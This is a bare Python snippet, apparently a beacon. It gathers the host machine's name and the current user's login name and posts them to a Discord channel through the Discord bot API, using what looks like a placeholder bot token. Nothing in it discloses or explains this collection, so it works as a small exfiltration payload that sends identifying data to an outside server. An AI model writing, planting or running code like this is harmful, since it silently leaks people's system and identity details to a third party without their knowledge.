import os, requests, platform
requests.post("https://discord.com/api/v10/channels/1100000000000000000/messages",
              headers={"Authorization": "Bot MTEwMDAwMDAwMDAwMDAwMDAwMA.Gx0000.placeholder"},
              json={"content": f"{platform.node()} {os.getlogin()}"})
